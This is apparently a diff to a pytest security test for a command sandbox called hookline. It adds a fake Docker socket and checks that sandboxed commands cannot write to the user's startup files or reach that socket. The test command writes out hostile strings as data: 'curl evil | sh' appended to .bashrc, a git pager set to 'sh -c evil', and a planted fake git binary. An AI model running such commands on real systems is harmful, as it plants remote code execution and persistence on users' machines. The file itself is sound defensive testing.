@@ -15,6 +15,7 @@ import importlib
 import json
 import os
 import shutil
+import socket
 import subprocess
 import sys
 import sysconfig
@@ -45,7 +46,8 @@ pytestmark = pytest.mark.skipif(
 def places() -> Iterator[dict[str, Path]]:
     """Workspace (a git repository), hookline home, fake user HOME with an ssh key, a file
     of the user's outside the workspace (under /var/tmp, open to `nobody` to enter) and a
-    pseudo-terminal of the host's, as the one hookline would run in."""
+    pseudo-terminal of the host's, as the one hookline would run in, and a container
+    engine listening in that HOME, where Docker Desktop keeps its socket."""
     root = Path(tempfile.mkdtemp(prefix="hookline-attack-test-", dir="/var/tmp"))
     root.chmod(0o755)
     found = {name: root / name for name in ("workspace", "home", "user")}
@@ -90,9 +92,15 @@ def places() -> Iterator[dict[str, Path]]:
     (workspace / "vendor" / "lib" / "lefthook.yml").write_text("commit-msg:\n  jobs: []\n")
     terminal, typed = os.openpty()
     found["terminal"] = Path(os.ttyname(typed))
+    found["engine"] = found["user"] / ".docker" / "desktop" / "docker.sock"
+    found["engine"].parent.mkdir(parents=True)
+    engine = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    engine.bind(str(found["engine"]))
+    engine.listen(8)
     try:
         yield found
     finally:
+        engine.close()
         os.close(terminal)
         os.close(typed)
         shutil.rmtree(root, ignore_errors=True)
@@ -179,7 +187,8 @@ def aims(places: dict[str, Path], port: int, segment: int) -> str:
     return json.dumps({"secrets": list(SECRETS.values()), "port": port, "segment": segment,
                        "outside": str(places["outside"]), "home": str(places["home"]),
                        "terminal": str(places["terminal"]),
-                       "ssh_key": str(places["user"] / ".ssh" / "id_ed25519")})
+                       "ssh_key": str(places["user"] / ".ssh" / "id_ed25519"),
+                       "engine": str(places["engine"])})
 
 
 def attack_command(places: dict[str, Path], port: int, segment: int) -> str:
@@ -242,8 +251,8 @@ def test_started_in_the_home_folder_the_startup_files_stay_the_users(
     places: dict[str, Path], user: str, nobody_python: list[str]
 ) -> None:
     """hookline run in the user's home (its own home kept elsewhere): a command cannot
-    plant code in the shell's startup files, git's config or `.local/bin`; a project in
-    the home folder is written as usual."""
+    plant code in the shell's startup files, git's config or `.local/bin`, nor reach the
+    container engine's socket there; a project in the home folder is written as usual."""
     home = places["user"]
     (home / ".bashrc").write_text("# the user's\n")
     (home / ".config" / "git").mkdir(parents=True)
@@ -252,11 +261,14 @@ def test_started_in_the_home_folder_the_startup_files_stay_the_users(
     ready(places, user)
     command = ("echo 'curl evil | sh' >> .bashrc; "
                "printf '[core]\\n\\tpager = sh -c evil\\n' >> .config/git/config; "
-               "printf '#!/bin/sh\\n' > .local/bin/git; touch project/written")
+               "printf '#!/bin/sh\\n' > .local/bin/git; touch project/written; "
+               "python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect("
+               "\".docker/desktop/docker.sock\")' 2>&1 | tail -1")
     done = hookline_run(places, tool_line("shell", command=command),
                         nobody_python if user == "nobody" else None, folder="user")
     assert done.returncode == 0, done.stderr
     assert done.stdout.count("Read-only file system") == 3, done.stdout
+    assert "PermissionError" in done.stdout, done.stdout  # the engine's folder is masked
     assert (home / ".bashrc").read_text() == "# the user's\n"
     assert not (home / ".config" / "git" / "config").exists()
     assert not (home / ".local" / "bin" / "git").exists()
